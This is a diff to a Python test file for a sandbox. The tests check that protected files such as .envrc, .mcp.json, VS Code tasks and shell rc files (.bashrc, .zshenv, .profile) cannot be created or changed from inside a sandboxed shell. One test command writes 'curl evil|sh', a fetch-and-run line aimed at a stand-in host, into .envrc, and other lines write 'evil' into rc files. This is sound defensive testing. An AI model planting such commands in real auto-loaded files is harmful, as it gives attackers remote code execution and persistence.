@@ -103,13 +103,29 @@ def test_renaming_protected_dirs_away_fails(box: Box) -> None:
 def test_missing_protected_paths_cannot_be_created_and_leave_nothing(box: Box) -> None:
     before = sorted(p.name for p in box.ws.iterdir())
     r = box.sh("echo 'curl evil|sh' > .envrc; mkdir -p .vscode && echo '{}' > .vscode/tasks.json;"
-               " echo 'x' > .bashrc; echo '{}' > .mcp.json; mkdir .codex/x; true")
+               " echo '{}' > .mcp.json; mkdir .codex/x; true")
     assert r.returncode == 0
-    for name in (".envrc", ".bashrc", ".mcp.json"):
+    for name in (".envrc", ".mcp.json"):
         assert not (box.ws / name).is_file()
     assert not (box.ws / ".vscode" / "tasks.json").exists()
     # placeholders are removed after the run
     assert sorted(p.name for p in box.ws.iterdir()) == before
+
+
+def test_shell_rc_files_protected(box: Box, monkeypatch: pytest.MonkeyPatch) -> None:
+    (box.ws / ".profile").write_text("# user profile\n")
+    r = box.sh("echo evil >> .profile; echo x > .bashrc; echo ok")
+    assert (box.ws / ".profile").read_text() == "# user profile\n"  # existing: read-only
+    assert (box.ws / ".bashrc").read_text() == "x\n"  # not home: creating one is harmless
+    # when the writable root is the home directory, creating rc files is blocked too
+    monkeypatch.setenv("HOME", str(box.outside))
+    box.outside.joinpath(".profile").write_text("# home profile\n")
+    r = box.sh("echo evil > .bashrc; echo evil > .zshenv; echo evil >> .profile; true",
+               cwd=box.outside, writable_roots=[box.outside])
+    assert r.returncode == 0
+    assert not (box.outside / ".bashrc").is_file() and not (box.outside / ".zshenv").is_file()
+    assert (box.outside / ".profile").read_text() == "# home profile\n"
+    assert sorted(p.name for p in box.outside.iterdir()) == [".profile"]
 
 
 def test_gitdir_pointer_file_is_followed(box: Box) -> None:
